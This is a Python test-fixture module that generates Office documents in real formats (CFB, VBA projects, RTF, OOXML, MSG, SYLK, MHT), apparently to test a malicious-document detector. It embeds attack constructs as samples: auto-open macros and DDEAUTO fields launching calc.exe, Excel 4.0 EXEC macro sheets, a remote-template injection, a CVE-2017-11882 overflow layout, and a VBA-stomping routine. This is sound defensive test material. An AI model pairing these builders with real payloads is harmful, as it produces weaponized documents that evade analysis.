"""Office files in their real formats, built in the tests (nothing here runs anything).

- :func:`compound_file`: an OLE2 / Compound File Binary file (MS-CFB) with a mini stream
  for small streams and sorted directory siblings, as Office writes them.
- :func:`ovba_compress`: the MS-OVBA 2.4.1 compression Office applies to VBA source and to
  the ``dir`` stream (so ``Document_Open`` never appears whole in the bytes).
- :func:`vba_project`: a VBA project storage (``PROJECT``, ``VBA/dir``, ``VBA/_VBA_PROJECT``,
  one stream per module) per MS-OVBA 2.3.
- Documents carrying it, Excel 4.0 macro sheets (BIFF8 BoundSheet8), Word 97 field codes
  (DDE), OLE Package objects (MS-OLEDS OLENativeStream), RTF ``\\objdata`` objects, remote
  templates, and OOXML encrypted with msoffcrypto-tool.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib

SECTOR, MINI, CUTOFF = 512, 64, 4096
FREE, END, FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
NOSTREAM = 0xFFFFFFFF


# MS-OVBA compression -----------------------------------------------------------------------
def ovba_compress(data: bytes) -> bytes:
    """CompressedContainer (MS-OVBA 2.4.1.1.1): signature 1, then 4096-byte chunks, each a
    header and a token sequence of literals and copy tokens (the greedy longest match)."""
    out = bytearray(b"\x01")
    for start in range(0, max(len(data), 1), 4096):
        chunk = data[start:start + 4096]
        body = _compress_chunk(chunk)
        out += struct.pack("<H", 0xB000 | (len(body) + 2 - 3)) + body
    return bytes(out)


def _compress_chunk(chunk: bytes) -> bytes:
    out = bytearray()
    pos, n = 0, len(chunk)
    while pos < n:
        flag_at = len(out)
        out.append(0)
        for bit in range(8):
            if pos >= n:
                break
            best_len, best_off = 0, 0
            if pos > 0:
                bits = max((pos - 1).bit_length(), 4)  # CopyTokenHelp: ceil(log2(pos)), >= 4
                max_len = (0xFFFF >> bits) + 3
                for cand in range(pos - 1, -1, -1):
                    length = 0
                    while (length < max_len and pos + length < n
                           and chunk[cand + length] == chunk[pos + length]):
                        length += 1
                    if length > best_len:
                        best_len, best_off = length, pos - cand
                if best_len >= 3:
                    token = ((best_off - 1) << (16 - bits)) | (best_len - 3)
                    out += struct.pack("<H", token)
                    out[flag_at] |= 1 << bit
                    pos += best_len
                    continue
            out.append(chunk[pos])
            pos += 1
    return bytes(out)


# MS-CFB writer ---------------------------------------------------------------------------
def compound_file(streams: dict[str, bytes], root_clsid: bytes = b"\0" * 16) -> bytes:
    """A version 3 compound file holding ``streams`` ("Storage/Sub/Stream" paths)."""
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "kids": {}, "data": b"",
                            "clsid": root_clsid}]
    for path, data in streams.items():
        parent = entries[0]
        *dirs, leaf = path.split("/")
        for d in dirs:
            if d not in parent["kids"]:
                entries.append({"name": d, "type": 1, "kids": {}, "data": b"",
                                "clsid": b"\0" * 16})
                parent["kids"][d] = len(entries) - 1
            parent = entries[parent["kids"][d]]
        entries.append({"name": leaf, "type": 2, "kids": {}, "data": data, "clsid": b"\0" * 16})
        parent["kids"][leaf] = len(entries) - 1

    # Small streams live in the mini stream (64-byte sectors), itself a chain of the root.
    mini = bytearray()
    minifat: list[int] = []
    big: list[tuple[dict, bytes]] = []
    for e in entries:
        if e["type"] != 2:
            continue
        if len(e["data"]) < CUTOFF:
            n = max(1, -(-len(e["data"]) // MINI)) if e["data"] else 0
            e["start"] = len(minifat) if n else END
            minifat += [len(minifat) + i + 1 for i in range(n - 1)] + ([END] if n else [])
            mini += e["data"].ljust(n * MINI, b"\0")
        else:
            big.append((e, e["data"]))
    dir_sectors = -(-len(entries) * 128 // SECTOR)
    minifat_sectors = -(-len(minifat) * 4 // SECTOR)
    mini_sectors = -(-len(mini) // SECTOR)
    big_sectors = sum(-(-len(d) // SECTOR) for _, d in big)
    used = dir_sectors + minifat_sectors + mini_sectors + big_sectors
    fat_sectors = 1
    while fat_sectors * 128 < used + fat_sectors:
        fat_sectors += 1
    assert fat_sectors <= 109
    fat: list[int] = [FATSECT] * fat_sectors
    body = bytearray()

    def chain(data: bytes) -> int:
        n = -(-len(data) // SECTOR)
        first = len(fat)
        fat.extend(first + i + 1 for i in range(n - 1))
        fat.append(END)
        body.extend(data.ljust(n * SECTOR, b"\0"))
        return first

    # Directory and MiniFAT are placed after the FAT; their contents are known at the end.
    dir_first = len(fat)
    fat.extend(dir_first + i + 1 for i in range(dir_sectors - 1))
    fat.append(END)
    body.extend(b"\0" * dir_sectors * SECTOR)
    minifat_first = chain(b"".join(struct.pack("<I", x) for x in minifat)) if minifat else END
    entries[0]["start"] = chain(bytes(mini)) if mini else END
    entries[0]["size"] = len(mini)
    for e, data in big:
        e["start"] = chain(data)
    fat += [FREE] * (fat_sectors * 128 - len(fat))

    def links(e: dict) -> None:
        kids = sorted(e["kids"].values(), key=lambda i: (len(entries[i]["name"]),
                                                          entries[i]["name"].upper()))
        e["child"] = kids[0] if kids else NOSTREAM  # a sorted right-leaning chain
        for a, b in zip(kids, [*kids[1:], NOSTREAM], strict=False):
            entries[a]["right"] = b
        for k in kids:
            links(entries[k])

    links(entries[0])
    directory = bytearray()
    for e in entries:
        name = e["name"].encode("utf-16-le") + b"\0\0"
        size = e.get("size", len(e["data"]) if e["type"] == 2 else 0)
        directory += struct.pack("<64sHBBIII16sIQQIQ", name.ljust(64, b"\0"), len(name),
                                 e["type"], 1, NOSTREAM, e.get("right", NOSTREAM),
                                 e.get("child", NOSTREAM), e["clsid"], 0, 0, 0,
                                 e.get("start", END) if e["type"] != 1 else 0, size)
    start = (dir_first - fat_sectors) * SECTOR
    body[start:start + len(directory)] = directory
    difat = list(range(fat_sectors)) + [FREE] * (109 - fat_sectors)
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
                         b"\0" * 16, 0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6, 0, fat_sectors,
                         dir_first, 0, CUTOFF, minifat_first, minifat_sectors, END, 0)
    header += struct.pack("<109I", *difat)
    return header + b"".join(struct.pack("<I", x) for x in fat) + bytes(body)


# VBA project (MS-OVBA 2.3) -----------------------------------------------------------------
def _rec(rid: int, data: bytes) -> bytes:
    return struct.pack("<HI", rid, len(data)) + data


def _dir_stream(modules: dict[str, bytes], documents: set[str]) -> bytes:
    out = (_rec(0x0001, struct.pack("<I", 1))  # PROJECTSYSKIND: 32-bit Windows
           + _rec(0x0002, struct.pack("<I", 0x409)) + _rec(0x0014, struct.pack("<I", 0x409))
           + _rec(0x0003, struct.pack("<H", 1252)) + _rec(0x0004, b"VBAProject")
           + _rec(0x0005, b"") + _rec(0x0040, b"")
           + _rec(0x0006, b"") + _rec(0x003D, b"")
           + _rec(0x0007, struct.pack("<I", 0)) + _rec(0x0008, struct.pack("<I", 0))
           + struct.pack("<HIIH", 0x0009, 4, 1, 0)  # PROJECTVERSION
           + _rec(0x000C, b"") + _rec(0x003C, b""))
    out += _rec(0x000F, struct.pack("<H", len(modules))) + _rec(0x0013, b"\xff\xff")
    for name in modules:
        b, u = name.encode("latin-1"), name.encode("utf-16-le")
        out += (_rec(0x0019, b) + _rec(0x0047, u) + _rec(0x001A, b) + _rec(0x0032, u)
                + _rec(0x001C, b"") + _rec(0x0048, b"") + _rec(0x0031, struct.pack("<I", 0))
                + _rec(0x001E, struct.pack("<I", 0)) + _rec(0x002C, b"\xff\xff")
                + _rec(0x0022 if name in documents else 0x0021, b"") + _rec(0x002B, b""))
    return out + _rec(0x0010, b"")


def vba_streams(modules: dict[str, str], prefix: str = "",
                documents: frozenset[str] = frozenset({"ThisDocument", "ThisWorkbook"}),
                ) -> dict[str, bytes]:
    """The streams of a VBA project storage (under ``prefix``, e.g. "_VBA_PROJECT_CUR/" in a
    workbook, "Macros/" in a Word 97 document, "" for vbaProject.bin)."""
    sources = {n: (f'Attribute VB_Name = "{n}"\r\n' + src.replace("\n", "\r\n")).encode(
        "latin-1") for n, src in modules.items()}
    docs = set(documents) & set(modules)
    project = ('ID="{3DA3C7B1-2E9A-4C4B-9A47-000000000001}"\r\n'
               + "".join(f"Document={n}/&H00000000\r\n" if n in docs else f"Module={n}\r\n"
                         for n in modules)
               + 'Name="VBAProject"\r\nHelpContextID="0"\r\nVersionCompatible32="393222000"'
               '\r\n\r\n[Host Extender Info]\r\n'
               '&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n')
    streams = {f"{prefix}PROJECT": project.encode("latin-1"),
               f"{prefix}PROJECTwm": b"".join(n.encode() + b"\0" + n.encode("utf-16-le")
                                              + b"\0\0" for n in modules) + b"\0\0",
               # _VBA_PROJECT version 0xFFFF: no p-code, Office recompiles from source.
               f"{prefix}VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
               f"{prefix}VBA/dir": ovba_compress(_dir_stream(sources, docs))}
    for n, src in sources.items():
        streams[f"{prefix}VBA/{n}"] = ovba_compress(src)
    return streams


def vba_project_bin(modules: dict[str, str]) -> bytes:
    """word/vbaProject.bin of a .docm/.xlsm."""
    return compound_file(vba_streams(modules))


AUTO_OPEN = {"ThisDocument": "Private Sub Document_Open()\nMsgBox \"Xin chao\"\nEnd Sub\n",
             "Module1": "Sub AutoOpen()\n  Shell \"calc.exe\"\nEnd Sub\n"}
NO_AUTO = {"Module1": "Function TongLuong(a, b)\n  TongLuong = a + b\nEnd Function\n"}


# Word, Excel and RTF documents -------------------------------------------------------------
WORD_CLSID = bytes.fromhex("0609020000000000c000000000000046")
EXCEL_CLSID = bytes.fromhex("2008020000000000c000000000000046")
_FIB = bytes.fromhex("eca5c100")  # wIdent 0xA5EC, nFib 0x00C1 (Word 97)


def word_doc(text: str = "Giay moi hop", extra: dict[str, bytes] | None = None,
             fields: tuple[str, ...] = ()) -> bytes:
    """A Word 97-2003 document: WordDocument (FIB and text; fields as 0x13 code 0x14
    result 0x15, the way Word stores them), 1Table, and ``extra`` streams."""
    body = text.encode("cp1252")
    for code in fields:
        body += b"\x13 " + code.encode("cp1252") + b" \x14result\x15"
    word = (_FIB + b"\0" * 0x200).ljust(0x400, b"\0") + body
    streams = {"WordDocument": word.ljust(CUTOFF, b"\0"), "1Table": b"\0" * 512,
               "\x05SummaryInformation": b"\xfe\xff" + b"\0" * 46}
    streams.update(extra or {})
    return compound_file(streams, WORD_CLSID)


def word_doc_with_macros(modules: dict[str, str]) -> bytes:
    return word_doc(extra=vba_streams(modules, "Macros/"))


def _biff(rtype: int, data: bytes) -> bytes:
    return struct.pack("<HH", rtype, len(data)) + data


def workbook_stream(macro_sheet: bool = False) -> bytes:
    """A BIFF8 Workbook stream: globals (BOF, BoundSheet8 per sheet, EOF), then sheets."""
    sheets = [(0x00, "Sheet1")] + ([(0x01, "Macro1")] if macro_sheet else [])
    glob = _biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0))
    bounds = [(dt, name) for dt, name in sheets]
    size_bounds = sum(4 + 8 + len(n) for _, n in bounds)
    offset = len(glob) + size_bounds + 4
    sheet_streams = []
    for dt, _name in bounds:
        kind = 0x0040 if dt == 0x01 else 0x0010  # BOF dt: macro sheet or worksheet
        s = _biff(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 0))
        s += _biff(0x000A, b"")
        sheet_streams.append(s)
    for (dt, name), s in zip(bounds, sheet_streams, strict=True):
        glob += _biff(0x0085, struct.pack("<IBBBB", offset, 0, dt, len(name), 0)
                      + name.encode("latin-1"))
        offset += len(s)
    return (glob + _biff(0x000A, b"") + b"".join(sheet_streams)).ljust(CUTOFF, b"\0")


def xls(macro_sheet: bool = False, modules: dict[str, str] | None = None) -> bytes:
    streams = {"Workbook": workbook_stream(macro_sheet),
               "\x05SummaryInformation": b"\xfe\xff" + b"\0" * 46}
    if modules:
        streams.update(vba_streams(modules, "_VBA_PROJECT_CUR/"))
    return compound_file(streams, EXCEL_CLSID)


def ole_package(filename: str, data: bytes) -> bytes:
    """The Ole10Native stream of an OLE Package object (MS-OLEDS 2.3.6) holding a file."""
    src = f"C:\\Users\\user\\Desktop\\{filename}".encode("latin-1") + b"\0"
    native = (struct.pack("<H", 2) + filename.encode("latin-1") + b"\0" + src
              + struct.pack("<II", 0x00030000, len(src)) + src
              + struct.pack("<I", len(data)) + data)
    return struct.pack("<I", len(native)) + native


def doc_with_package(filename: str, data: bytes) -> bytes:
    """A .doc with an embedded OLE Package object (ObjectPool/_<id>/\\x01Ole10Native)."""
    obj = "ObjectPool/_1234567890/"
    return word_doc("Xem tep dinh kem", {obj + "\x01Ole10Native": ole_package(filename, data),
                                         obj + "\x01CompObj": b"\x01\x00\xfe\xff" + b"\0" * 20,
                                         obj + "\x03ObjInfo": b"\x00\x00\x03\x00\x04\x00"})


def _ole1(class_name: str, native: bytes) -> bytes:
    """An OLE 1.0 embedded object (MS-OLEDS 2.2.5 EmbeddedObject) as RTF \\objdata holds."""
    def lpstr(s: str) -> bytes:
        b = s.encode("latin-1") + b"\0" if s else b""
        return struct.pack("<I", len(b)) + b

    return (struct.pack("<II", 0x00000501, 2) + lpstr(class_name) + lpstr("") + lpstr("")
            + struct.pack("<I", len(native)) + native)


def rtf_with_object(class_name: str, native: bytes) -> bytes:
    hexdata = _ole1(class_name, native).hex()
    lines = "\n".join(hexdata[i:i + 128] for i in range(0, len(hexdata), 128))
    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\pard Cong van so 12\\par"
            "{\\object\\objemb\\objw1000\\objh500{\\*\\objclass " + class_name + "}"
            "{\\*\\objdata\n" + lines + "\n}}\\par}").encode("latin-1")


def rtf_with_package(filename: str, data: bytes) -> bytes:
    return rtf_with_object("Package", ole_package(filename, data)[4:])


EQUATION_CLSID = bytes.fromhex("02ce020000000000c000000000000046")


def equation_native(font: bytes = b"Times New Roman") -> bytes:
    """An ``Equation Native`` stream: EQNOLEFILEHDR (28 bytes), then MTEF 3 as Equation
    Editor 3.0 writes it: header (version 3, Windows, Equation Editor 3.0), FULL size, a
    LINE, a FONT record naming ``font``, the characters "x=1" and the ENDs."""
    mtef = (b"\x03\x01\x01\x03\x0a" + b"\x0a\x01" + b"\x08\x83\x00" + font + b"\x00"
            + b"\x02\x83\x78\x00\x02\x86\x3d\x00\x02\x81\x31\x00" + b"\x00\x00")
    header = struct.pack("<HIHIIIII", 28, 0x00020000, 0xC16D, len(mtef), 0, 0, 0, 0)
    return header + mtef


# The shape of the public CVE-2017-11882 proof of concept: a command, padding to the saved
# return address, and the address (0x00430C12, whose zero byte ends the name). Harmless here.
EXPLOIT_FONT = b"cmd.exe /c calc.exe".ljust(44, b"A") + b"\x12\x0c\x43"


def _equation_streams(storage: str = "", font: bytes = b"Times New Roman") -> dict[str, bytes]:
    """The streams of an equation object, at the root (``storage`` "") or in a storage."""
    return {storage + name: data for name, data in (
        ("Equation Native", equation_native(font)),
        ("\x01CompObj", b"\x01\x00\xfe\xff" + b"\0" * 20))}


def equation_object(font: bytes = b"Times New Roman") -> bytes:
    """An Equation Editor 3.0 OLE object (the class CVE-2017-11882 abuses)."""
    return compound_file(_equation_streams(font=font), EQUATION_CLSID)


def doc_with_equation(font: bytes = b"Times New Roman") -> bytes:
    """A Word 97-2003 document whose equation lives where Word keeps embedded objects:
    a storage ``ObjectPool/_<object id>`` holding the object's streams."""
    return word_doc(extra=_equation_streams("ObjectPool/_1234567890/", font))


def xls_with_equation() -> bytes:
    """An Excel 97-2003 workbook with an equation in its object storage ``MBD<id>``."""
    return compound_file({"Workbook": workbook_stream(), **_equation_streams("MBD0001A2B3/")},
                         EXCEL_CLSID)


def rtf_with_equation(font: bytes = b"Times New Roman") -> bytes:
    return rtf_with_object("Equation.3", equation_object(font))


def docx_with_equation(font: bytes = b"Times New Roman") -> bytes:
    """A .docx embedding an Equation Editor 3.0 object (word/embeddings/oleObject1.bin)."""
    plain = docx()
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain)) as src, zipfile.ZipFile(buf, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr("word/embeddings/oleObject1.bin", equation_object(font))
    return buf.getvalue()


# Outlook message files (.msg, MS-OXMSG) ------------------------------------------------------
MSG_CLSID = bytes.fromhex("0b0d020000000000c000000000000046")  # {00020D0B-...-46}: a message


def _msg_streams(subject: str, attachments: list[tuple[str, bytes | dict]],
                 prefix: str = "") -> dict[str, bytes]:
    """The streams of a message under ``prefix``: properties, subject, and per attachment its
    long file name and data, or (a dict) the streams of an attached message."""
    streams = {f"{prefix}__properties_version1.0": b"\0" * 32,
               f"{prefix}__substg1.0_0037001F": subject.encode("utf-16-le")}
    for i, (name, content) in enumerate(attachments):
        a = f"{prefix}__attach_version1.0_#{i:08X}/"
        streams[f"{a}__properties_version1.0"] = b"\0" * 8
        streams[f"{a}__substg1.0_3707001F"] = name.encode("utf-16-le")
        if isinstance(content, dict):
            streams.update(_msg_streams(content["subject"], content["attachments"],
                                        f"{a}__substg1.0_3701000D/"))
        else:
            streams[f"{a}__substg1.0_37010102"] = content
    return streams


def outlook_msg(subject: str, attachments: list[tuple[str, bytes | dict]]) -> bytes:
    """An Outlook .msg carrying ``attachments``: (name, bytes), or (name, {"subject": ...,
    "attachments": [...]}) for an attached message."""
    return compound_file(_msg_streams(subject, attachments), MSG_CLSID)


def rtf_with_dde() -> bytes:
    return (b"{\\rtf1\\ansi{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
            b"\"/k calc.exe\"}{\\fldrslt x}}\\par}")


# OOXML ----------------------------------------------------------------------------------
_CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://'
       'schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
       'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default '
       'Extension="xml" ContentType="application/xml"/>{}</Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="'
         'http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>')
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_W = ('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
      '<w:body>{}</w:body></w:document>')


def _zip(parts: dict[str, str | bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return buf.getvalue()


def docx(paragraphs: str = '<w:p><w:r><w:t>Giay moi hop</w:t></w:r></w:p>',
         macros: dict[str, str] | None = None, settings_rels: str = "") -> bytes:
    main = ("application/vnd.ms-word.document.macroEnabled.main+xml" if macros else
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
    overrides = f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
    parts: dict[str, str | bytes] = {
        "_rels/.rels": _RELS.format(f'<Relationship Id="rId1" Type="{_R}officeDocument" '
                                    'Target="word/document.xml"/>'),
        "word/document.xml": _W.format(paragraphs)}
    doc_rels = ""
    if macros:
        overrides += ('<Override PartName="/word/vbaProject.bin" '
                      'ContentType="application/vnd.ms-office.vbaProject"/>')
        doc_rels += ('<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/'
                     'relationships/vbaProject" Target="vbaProject.bin"/>')
        parts["word/vbaProject.bin"] = vba_project_bin(macros)
    if settings_rels:
        parts["word/settings.xml"] = ('<w:settings xmlns:w="http://schemas.openxmlformats.org/'
                                      'wordprocessingml/2006/main" xmlns:r="http://schemas.'
                                      'openxmlformats.org/officeDocument/2006/relationships">'
                                      '<w:attachedTemplate r:id="rId1"/></w:settings>')
        parts["word/_rels/settings.xml.rels"] = _RELS.format(settings_rels)
        doc_rels += f'<Relationship Id="rId3" Type="{_R}settings" Target="settings.xml"/>'
    parts["word/_rels/document.xml.rels"] = _RELS.format(doc_rels)
    parts = {"[Content_Types].xml": _CT.format(overrides), **parts}
    return _zip(parts)


def docx_with_dde(command: str = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
                  ) -> bytes:
    """A DDEAUTO field split over two runs, as Word writes a field code typed in parts."""
    half = len(command) // 2
    return docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                f'<w:r><w:instrText xml:space="preserve"> {command[:half]}</w:instrText></w:r>'
                f'<w:r><w:instrText xml:space="preserve">{command[half:]} </w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def docx_with_remote_template(target: str = "http://203.0.113.9/templates/bao-cao.dotm"
                              ) -> bytes:
    return docx(settings_rels=f'<Relationship Id="rId1" Type="{_R}attachedTemplate" '
                f'Target="{target}" TargetMode="External"/>')


def xlsm_with_macro_sheet() -> bytes:
    """A workbook whose second sheet is an Excel 4.0 macro sheet (xl/macrosheets/)."""
    ct = _CT.format(
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.'
        'macroEnabled.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="'
        'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-'
        'excel.macrosheet+xml"/>')
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return _zip({
        "[Content_Types].xml": ct,
        "_rels/.rels": _RELS.format(f'<Relationship Id="rId1" Type="{_R}officeDocument" '
                                    'Target="xl/workbook.xml"/>'),
        "xl/workbook.xml": f'<workbook {ns} xmlns:r="{_R[:-1]}"><sheets><sheet name="Sheet1" '
                           'sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" '
                           'r:id="rId2"/></sheets><definedNames><definedName name="_xlnm.'
                           'Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>',
        "xl/_rels/workbook.xml.rels": _RELS.format(
            f'<Relationship Id="rId1" Type="{_R}worksheet" Target="worksheets/sheet1.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/'
            'relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>'),
        "xl/worksheets/sheet1.xml": f'<worksheet {ns}><sheetData/></worksheet>',
        "xl/macrosheets/sheet1.xml": '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/'
                                     'office/excel/2006/main"><sheetData><row r="1"><c r="A1">'
                                     '<f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2">'
                                     '<f>HALT()</f></c></row></sheetData></xm:macrosheet>'})


def encrypt_ooxml(plain: bytes, password: str) -> bytes:
    """ECMA-376 agile encryption, as Office does with "Encrypt with Password"."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(plain)).encrypt(password, out)
    return out.getvalue()


# Office documents saved as text ------------------------------------------------------------
def active_mime(data: bytes) -> bytes:
    """An ActiveMime (editdata.mso) blob: header, data offset field, zlib stream at 0x32."""
    head = bytearray(0x32)
    head[:10] = b"ActiveMime"
    struct.pack_into("<H", head, 0x1E, 0x32 - 46)
    return bytes(head) + zlib.compress(data)


def _b64(data: bytes) -> str:
    text = base64.b64encode(data).decode()
    return "\n".join(text[i:i + 76] for i in range(0, len(text), 76))


def word2003_xml(modules: dict[str, str]) -> bytes:
    """Word 2003 XML (WordprocessingML) with its macros in w:binData editdata.mso."""
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<?mso-application progid="Word.Document"?>\n<w:wordDocument xmlns:w="http://'
            'schemas.microsoft.com/office/word/2003/wordml"><w:binData w:name="editdata.mso">'
            + _b64(active_mime(vba_project_bin(modules))) + '</w:binData><w:body><w:p><w:r>'
            '<w:t>Bao cao</w:t></w:r></w:p></w:body></w:wordDocument>').encode()


def flat_opc(modules: dict[str, str]) -> bytes:
    """Word's Flat OPC XML: every part of the package inline, vbaProject.bin in base64."""
    return ('<?xml version="1.0" standalone="yes"?>\n<?mso-application progid="Word.Document"'
            '?>\n<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
            '<pkg:part pkg:name="/word/vbaProject.bin" pkg:contentType="application/vnd.ms-'
            'office.vbaProject"><pkg:binaryData>' + _b64(vba_project_bin(modules))
            + '</pkg:binaryData></pkg:part></pkg:package>').encode()


def mht(modules: dict[str, str]) -> bytes:
    """A Word "single file web page" (MHT, often sent named .doc) with editdata.mso."""
    return ('MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="----=_NextPart"'
            '\r\n\r\n------=_NextPart\r\nContent-Location: file:///C:/bao-cao.htm\r\n'
            'Content-Type: text/html; charset="utf-8"\r\n\r\n<html><body>Bao cao</body></html>'
            '\r\n------=_NextPart\r\nContent-Location: file:///C:/bao-cao_files/editdata.mso'
            '\r\nContent-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n'
            + _b64(active_mime(vba_project_bin(modules))).replace("\n", "\r\n")
            + '\r\n------=_NextPart--\r\n').encode()


def sylk_with_macros() -> bytes:
    """A SYLK sheet (what Excel opens from .slk, even named .xls or .csv) whose options make
    it a macro sheet (O;E) with Auto_Open pointing at an EXEC formula."""
    return (b"ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;K0;EEXEC(\"calc.exe\")\r\n"
            b"C;X1;Y102;K0;EHALT()\r\nE\r\n")


def xlsb_with_macro_sheet() -> bytes:
    """An .xlsb whose second sheet is an Excel 4.0 macro sheet (binary part, BIFF12)."""
    ct = _CT.format(
        '<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macro'
        'Enabled.main"/><Override PartName="/xl/worksheets/sheet1.bin" ContentType="'
        'application/vnd.ms-excel.worksheet"/><Override PartName="/xl/macrosheets/sheet1.bin"'
        ' ContentType="application/vnd.ms-excel.macrosheet"/>')
    return _zip({"[Content_Types].xml": ct,
                 "_rels/.rels": _RELS.format(f'<Relationship Id="rId1" Type="{_R}office'
                                             'Document" Target="xl/workbook.bin"/>'),
                 "xl/workbook.bin": b"\x83\x01\x00\x84\x01\x00",  # BrtBeginBook, BrtEndBook
                 "xl/worksheets/sheet1.bin": b"\x81\x01\x00\x82\x01\x00",
                 "xl/macrosheets/sheet1.bin": b"\x81\x01\x00\x82\x01\x00"})


def xlsx_with_dde_link() -> bytes:
    """A workbook with an external DDE link (xl/externalLinks/externalLink1.xml)."""
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    ct = _CT.format('<Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
                    'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
                    'PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>')
    return _zip({"[Content_Types].xml": ct,
                 "_rels/.rels": _RELS.format(f'<Relationship Id="rId1" Type="{_R}office'
                                             'Document" Target="xl/workbook.xml"/>'),
                 "xl/workbook.xml": f'<workbook {ns}><sheets/></workbook>',
                 "xl/externalLinks/externalLink1.xml":
                     f'<externalLink {ns}><ddeLink ddeService="cmd" ddeTopic="/c calc.exe">'
                     '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'
                     '</externalLink>'})


# VBA stomping ------------------------------------------------------------------------------
def stomp_vba(ole: bytes, module: str, source: str) -> bytes:
    """The compound file ``ole`` with the VBA source of ``module`` replaced by ``source``
    and its compiled p-code kept, as EvilClippy and Adaptive-Stomping tools do: Office runs
    the p-code when its VBA version matches, and an analyst (or a filter) reading the
    source sees only ``source``. Every other stream is copied unchanged."""
    import uuid

    import olefile
    from oletools.olevba import decompress_stream

    f = olefile.OleFileIO(ole)
    streams: dict[str, bytes] = {}
    for parts in f.listdir(streams=True, storages=False):
        data = f.openstream(parts).read()
        if parts[-1] == module and parts[-2] == "VBA":
            # The source is the compressed container after the p-code (MODULEOFFSET in the
            # dir stream, which still points there): the first offset that decompresses to
            # the module's attributes.
            for off in (i for i, b in enumerate(data) if b == 1):
                try:
                    text = decompress_stream(bytearray(data[off:]))
                except Exception:  # noqa: BLE001 - not the container, try the next offset
                    continue
                if text.startswith(b"Attribute VB_Name"):
                    data = data[:off] + ovba_compress(source.encode("latin-1"))
                    break
            else:
                raise ValueError(f"no VBA source found in module {module}")
        streams["/".join(parts)] = data
    clsid = uuid.UUID(f.root.clsid).bytes_le if f.root.clsid else b"\0" * 16
    return compound_file(streams, clsid)
